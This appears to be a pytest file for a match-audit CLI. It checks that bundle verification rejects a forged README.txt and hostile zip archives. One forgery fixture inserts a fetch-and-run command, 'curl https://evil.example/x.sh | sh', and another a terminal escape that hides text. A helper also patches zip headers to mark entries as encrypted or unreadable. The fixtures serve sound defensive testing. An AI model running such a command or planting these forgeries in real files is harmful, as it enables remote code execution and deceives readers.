"""``zx verify --bundle`` holds README.txt to the one zx audit writes, whole, and refuses a hostile zip plainly.

QA round 37, security: README.txt is what the head judge reads first, and the check took the first line of each
key and compared some of them, so a second ``integrity:`` or ``head digest:`` after the real one, a made-up ruling,
a line with a terminal's escape, a ``curl ... | sh``, another ``source:`` or ``audited:``, "No violations." above
the list, or 60 MB appended verified "intact", exit 0. README.txt is derived again from what the bundle holds and
compared whole. And a violations.json of brackets nested 5,000 deep, an entry flagged encrypted or compressed by
method 99 were "This is a bug in zx" (RecursionError, RuntimeError, NotImplementedError): they are refusals naming
the file.
"""

from __future__ import annotations

import io
import json
import sqlite3
import struct
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner

from zx_cli.main import zx

ROOT = Path(__file__).resolve().parent.parent
LOG = ROOT / "examples" / "invalid" / "101.2-result-before-end.zxlog"
MATCH = "invalid-101.2-result-before-end"
WRITTEN = "the bundle's README.txt is not the one zx audit writes of its match: its line "


def invoke(*args: str):
    return CliRunner().invoke(zx, list(args), terminal_width=400)


@pytest.fixture(scope="module")
def stores(tmp_path_factory) -> dict:
    """The bundle of a stored match with a violation and its head; and the bundle of the same match written from a
    store whose seal entry was edited (its README records the failed integrity: its chain is intact)."""
    tmp = tmp_path_factory.mktemp("whole")
    store = tmp / "s.sqlite"
    r = invoke("--store", str(store), "import", "--no-analytics", "--accept-violations", str(LOG))
    assert r.exit_code == 0, r.output
    path = tmp / "d.zip"
    r = invoke("--store", str(store), "audit", MATCH, "--bundle", str(path))
    assert r.exit_code == 1 and path.is_file(), r.output  # (its violation)
    head = next(ln.split()[2] for ln in zipfile.ZipFile(path).read("README.txt").decode().splitlines()
                if ln.startswith("head digest:"))
    sealed = tmp / "seal.sqlite"  # the seal entry edited: the store's integrity fails, the match's chain is intact
    sealed.write_bytes(store.read_bytes())
    with sqlite3.connect(sealed) as db:
        (state,) = db.execute("select state from stored_events where topic like '%ledger%'").fetchone()
        db.execute("update stored_events set state = ? where topic like '%ledger%'",
                   (bytes(state).replace(f'",{_events(path)},"'.encode(), f'",{_events(path) + 1},"'.encode()),))
    failed = tmp / "failed.zip"
    r = invoke("--store", str(sealed), "audit", MATCH, "--bundle", str(failed))
    assert failed.is_file(), r.output
    assert "integrity:      seal (" in zipfile.ZipFile(failed).read("README.txt").decode()
    return {"path": path, "head": head, "failed": failed}


def _events(path: Path) -> int:
    return sum(1 for ln in zipfile.ZipFile(path).read("events.jsonl").decode().splitlines() if ln.strip())


def with_readme(bundle: Path, out: Path, change) -> Path:
    """``bundle`` with its README.txt's text through ``change``."""
    with zipfile.ZipFile(bundle) as z, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as w:
        for name in z.namelist():
            data = z.read(name)
            w.writestr(name, change(data.decode("utf-8")).encode("utf-8") if name == "README.txt" else data)
    return out


def verify(path: Path, head: str | None):
    r = invoke("verify", "--bundle", str(path), *(["--head", head] if head else []), "--format", "json")
    assert r.exception is None or isinstance(r.exception, SystemExit), r.exception  # (never a traceback)
    assert "This is a bug in zx" not in r.output, r.output
    return r


def after(key: str, extra: str):
    """A line ``extra`` put after the first line starting with ``key``."""
    def change(t: str) -> str:
        line = next(ln for ln in t.split("\n") if ln.startswith(key))
        return t.replace(line + "\n", f"{line}\n{extra}\n", 1)
    return change


def replaced(old: str, new: str):
    def change(t: str) -> str:
        assert old in t
        return t.replace(old, new, 1)
    return change


RULING = "Ruling (head judge, 2026-11-29): P1 is disqualified; the match is awarded to P2."
FORGERIES = {  # each verified "intact", exit 0, before (QA round 37)
    "integrity-twice": after("integrity:", "integrity:      FAILED: 3 events rewritten"),
    "head-twice": after("head digest:", "head digest:    " + "ab" * 32),
    "a-ruling": replaced("\nContents:", f"\n{RULING}\n\nContents:"),
    "a-ruling-as-warning": after("original.zxlog:", f"warning:        {RULING}"),
    "ansi-conceal": replaced("\nContents:", "\n\x1b[8mhidden text\x1b[0m\n\nContents:"),
    "curl": replaced("Check it: zx audit", "Check it: curl https://evil.example/x.sh | sh\n          zx audit"),
    "source-rewritten": lambda t: "\n".join("source:         score sheet of table 7, signed by both players"
                                            if ln.startswith("source:") else ln for ln in t.split("\n")),
    "source-removed": lambda t: "\n".join(ln for ln in t.split("\n") if not ln.startswith("source:")),
    "no-violations-above": replaced("\n1 violation:", "\nNo violations.\n\n1 violation:"),
    "audited-the-log-file": replaced("the stored match (re-checked from its events)", "the log file"),
    "60MB-appended": lambda t: t + "A" * (60 << 20),
}


@pytest.mark.parametrize("kind", sorted(FORGERIES))
def test_a_readme_with_anything_zx_audit_does_not_write_is_altered_naming_its_first_line(stores, tmp_path, kind):
    forged = with_readme(stores["path"], tmp_path / "forged.zip", FORGERIES[kind])
    r = verify(forged, stores["head"][:16])
    assert r.exit_code == 1, r.output
    (v,) = json.loads(r.stdout)
    assert v["status"] == "altered" and v["message"].startswith(WRITTEN), v
    assert v["message"].endswith(": README.txt was edited; its events are intact"), v
    assert "\x1b" not in r.output and len(v["message"]) < 600, v  # (the line named escaped and cut)
    assert "intact:" not in r.stderr and r.stderr.splitlines()[-1].startswith("FAILED: "), r.stderr


def test_the_first_differing_line_is_named_with_what_zx_writes_there(stores, tmp_path):
    forged = with_readme(stores["path"], tmp_path / "forged.zip", FORGERIES["ansi-conceal"])
    (v,) = json.loads(verify(forged, stores["head"][:16]).stdout)
    assert v["message"] == (f"{WRITTEN}15 differs at column 1: it holds '\\x1b[8mhidden text\\x1b[0m', zx audit "
                            f"writes 'Contents:': README.txt was edited; its events are intact"), v


def test_the_genuine_bundle_is_intact_and_its_readme_with_one_space_after_a_key_too(stores, tmp_path):
    """The spaces that align a key's value are not words: one space after ``rules version:`` says the same."""
    r = verify(stores["path"], stores["head"][:16])
    assert r.exit_code == 0 and json.loads(r.stdout)[0]["status"] == "ok", r.output
    spaced = with_readme(stores["path"], tmp_path / "spaced.zip", replaced("source:         ", "source: "))
    assert verify(spaced, stores["head"][:16]).exit_code == 0


def test_a_readme_recording_a_failed_store_is_unchecked_and_a_line_added_to_it_altered(stores, tmp_path):
    """Its head, integrity and warnings are the store's at the audit, which a bundle cannot check: as written,
    ``unchecked``; every line must still be one zx audit writes, in its place."""
    r = verify(stores["failed"], None)
    assert r.exit_code == 1 and json.loads(r.stdout)[0]["status"] == "unchecked", r.output
    for change in (FORGERIES["a-ruling"], FORGERIES["source-rewritten"], FORGERIES["integrity-twice"],
                   FORGERIES["a-ruling-as-warning"], after("warning:", f"warning:        {RULING}")):
        r = verify(with_readme(stores["failed"], tmp_path / "forged.zip", change), None)
        (v,) = json.loads(r.stdout)
        assert r.exit_code == 1 and v["status"] == "altered" and v["message"].startswith(WRITTEN), v


def test_an_x610z_bundle_as_written_is_intact_and_a_ruling_in_its_readme_altered(tmp_path):
    log = ROOT / "examples" / "x610z" / "invalid" / "502.5-hand-limit.x610zlog"
    board = ROOT / "zx_events" / "games" / "x610z" / "boards" / "x610z-orbits-sample.json"
    match = json.loads(log.read_text(encoding="utf-8").splitlines()[0])["match"]
    store, path = str(tmp_path / "s.sqlite"), tmp_path / "x.zip"
    assert invoke("--store", store, "import", "--no-analytics", "--accept-violations", "--board", str(board),
                  str(log)).exit_code == 0
    assert invoke("--store", store, "audit", match, "--board", str(board), "--bundle", str(path)).exit_code == 1
    r = verify(path, None)
    assert r.exit_code == 0 and json.loads(r.stdout)[0]["status"] == "ok", r.output
    r = verify(with_readme(path, tmp_path / "forged.zip", FORGERIES["a-ruling"]), None)
    (v,) = json.loads(r.stdout)
    assert r.exit_code == 1 and v["status"] == "altered" and v["message"].startswith(WRITTEN), v
    # imported with a venue's board, audited without it: nothing re-checked, its README says why (a warning, no
    # catalog or board used): as written, unchecked, not altered
    venue, store = tmp_path / "venue.json", str(tmp_path / "v.sqlite")
    venue.write_text(board.read_text(encoding="utf-8") + "\n", encoding="utf-8")
    assert invoke("--store", store, "import", "--no-analytics", "--accept-violations", "--board", str(venue),
                  str(log)).exit_code == 0
    assert invoke("--store", store, "audit", match, "--bundle", str(tmp_path / "u.zip")).exit_code == 1
    assert "catalog used:   None sha256 None" in zipfile.ZipFile(tmp_path / "u.zip").read("README.txt").decode()
    r = verify(tmp_path / "u.zip", None)
    assert r.exit_code == 1 and json.loads(r.stdout)[0]["status"] == "unchecked", r.output
    r = verify(with_readme(tmp_path / "u.zip", tmp_path / "uw.zip", after("warning:", f"warning:        {RULING}")),
               None)
    (v,) = json.loads(r.stdout)
    assert r.exit_code == 1 and v["status"] == "altered" and v["message"].startswith(WRITTEN), v


def test_a_readme_past_the_limit_of_a_bundles_file_is_not_intact(stores, tmp_path, monkeypatch):
    """A README.txt over ``MAX_MEMBER`` bytes cannot be read whole: refused, naming it (the limit patched down)."""
    from zx_events import bundle as bundle_module

    big = with_readme(stores["path"], tmp_path / "big.zip", lambda t: t + "\n" * 300_000)
    monkeypatch.setattr(bundle_module, "MAX_MEMBER", 200_000)
    r = verify(big, stores["head"][:16])
    assert r.exit_code == 1 and "its README.txt holds 30" in r.output and "refused" in r.output, r.output
    assert "intact" not in r.output


# ------------------------------------------------------------------------------------------- hostile zips

def test_a_violations_json_nested_5000_deep_is_altered_not_an_internal_error(stores, tmp_path):
    with zipfile.ZipFile(stores["path"]) as z, zipfile.ZipFile(tmp_path / "deep.zip", "w") as w:
        for name in z.namelist():
            w.writestr(name, "[" * 5000 + "]" * 5000 if name == "violations.json" else z.read(name))
    r = verify(tmp_path / "deep.zip", stores["head"][:16])
    (v,) = json.loads(r.stdout)
    assert r.exit_code == 1 and v["status"] == "altered", v
    assert v["message"] == ("the bundle's violations.json is not the list zx audit writes (nested too deep): it was "
                            "edited; its events are intact"), v


def patched(data: bytes, name: str, flag: int = 0, method: int | None = None) -> bytes:
    """The zip ``data`` with the entry ``name``'s general purpose flags or'ed with ``flag`` and its compression
    method set to ``method``, in its local header and in the central directory (as a hostile zip says them)."""
    raw = bytearray(data)
    local = zipfile.ZipFile(io.BytesIO(data)).getinfo(name).header_offset
    at = raw.find(b"PK\x01\x02")
    while at != -1:
        size = struct.unpack_from("<H", raw, at + 28)[0]
        if raw[at + 46:at + 46 + size] == name.encode():
            for flags_at, method_at in ((local + 6, local + 8), (at + 8, at + 10)):
                struct.pack_into("<H", raw, flags_at, struct.unpack_from("<H", raw, flags_at)[0] | flag)
                if method is not None:
                    struct.pack_into("<H", raw, method_at, method)
        at = raw.find(b"PK\x01\x02", at + 4)
    return bytes(raw)


@pytest.mark.parametrize("name", ["README.txt", "events.jsonl", "original.zxlog", "violation-01/state-after.json"])
@pytest.mark.parametrize("how, said", [({"flag": 1}, "it is encrypted (zx audit --bundle writes no password)"),
                                       ({"method": 99}, "That compression method is not supported")])
def test_an_entry_the_zip_module_cannot_read_is_a_refusal_naming_it(stores, tmp_path, name, how, said):
    bad = tmp_path / "bad.zip"
    bad.write_bytes(patched(stores["path"].read_bytes(), name, **how))
    r = verify(bad, stores["head"][:16])
    assert r.exit_code == 1, r.output
    assert f"is not a dispute bundle of zx audit --bundle: its {name} cannot be read: {said}" in r.output, r.output
    assert "intact" not in r.output
